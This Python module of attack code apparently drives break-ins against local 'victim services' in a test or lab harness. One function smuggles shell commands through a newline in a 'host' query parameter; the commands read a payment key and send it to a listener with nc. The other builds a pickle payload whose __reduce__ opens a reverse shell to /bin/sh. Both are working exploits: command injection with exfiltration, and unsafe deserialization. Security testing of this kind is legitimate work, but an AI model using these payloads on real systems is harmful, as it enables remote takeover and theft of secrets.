"""The break-ins: what an attacker does with the holes of the victim services.

    with Listener() as listener:
        inject_command(shop_port, listener.port)      # a shell, a read of a secret, an outgoing connection
        loot = listener.received(timeout_s=10)
"""

import base64
import http.client
import pickle
import socket
import urllib.parse


def inject_command(shop_port: int, listener_port: int) -> str:
    """Breaks into the shop through /reach; returns the page with what the commands printed."""
    commands = f"id; cat /srv/secret/payment.key; nc -N -w 5 127.0.0.1 {listener_port} < /srv/secret/payment.key"
    query = urllib.parse.urlencode({"host": f"localhost\n{commands}"})
    connection = http.client.HTTPConnection("127.0.0.1", shop_port, timeout=30)
    try:
        connection.request("GET", f"/reach?{query}")
        return connection.getresponse().read().decode(errors="replace")
    finally:
        connection.close()


class _ReverseShell:
    """Unpickled by the victim, it runs there; the victim's own process becomes the shell."""

    def __init__(self, listener_port: int) -> None:
        self._code = ("import os,socket\n"
                      "s=socket.socket()\n"
                      f"s.connect(('127.0.0.1',{listener_port}))\n"
                      "for fd in (0,1,2): os.dup2(s.fileno(),fd)\n"
                      "os.execve('/bin/sh',['sh'],{})\n")

    def __reduce__(self) -> tuple[object, tuple[str]]:
        return exec, (self._code,)


def open_reverse_shell(worker_port: int, listener_port: int) -> None:
    """Has the worker open a shell to the listener. The worker's process is a shell from then on."""
    payload = base64.b64encode(pickle.dumps(_ReverseShell(listener_port)))
    with socket.create_connection(("127.0.0.1", worker_port), timeout=10) as connection:
        connection.sendall(b"RESTORE " + payload + b"\n")
        connection.settimeout(1)
        try:
            connection.recv(1)  # until the exec closes it
        except OSError:
            pass
